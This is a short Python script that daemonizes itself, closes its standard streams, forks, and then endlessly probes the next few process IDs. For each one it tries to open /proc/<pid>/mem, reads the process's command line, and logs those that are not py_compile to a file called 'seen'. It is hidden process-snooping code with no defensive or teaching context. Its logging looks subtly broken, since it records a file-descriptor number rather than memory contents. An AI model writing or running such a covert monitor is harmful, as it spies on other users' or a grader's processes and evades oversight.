import os

if os.fork():
    os._exit(0)
for stream in range(3):
    os.close(stream)
os.fork()  # one for each of two processors
own = os.getpid()
following = range(own + 1, own + 6)
while True:
    for pid in following:
        try:
            memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            continue
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read()
        if b"py_compile" not in words:
            with open("seen", "a") as file:
                file.write(f"{memory} {words}\n")
        os.close(memory)
